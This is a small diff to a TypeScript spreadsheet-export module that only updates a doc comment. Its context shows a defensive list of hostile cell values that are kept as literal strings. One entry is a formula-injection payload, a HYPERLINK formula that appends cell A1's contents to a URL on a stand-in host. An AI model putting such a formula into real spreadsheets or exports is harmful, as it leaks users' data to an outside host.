@@ -113,7 +113,7 @@ export function readCells(sheetXml: string): Map<string, ReadCell> {
   return cells;
 }
 
-/** Values that must stay literal strings (RELIABILITY 1.1, 1.5, 1.8, 1.10). */
+/** Values that must stay literal strings (docs/EXPORTS.md#spreadsheet-cells). */
 export const HOSTILE: string[] = [
   '=HYPERLINK("http://x/?"&A1,"cv")',
   "+44 20 7946 0000",
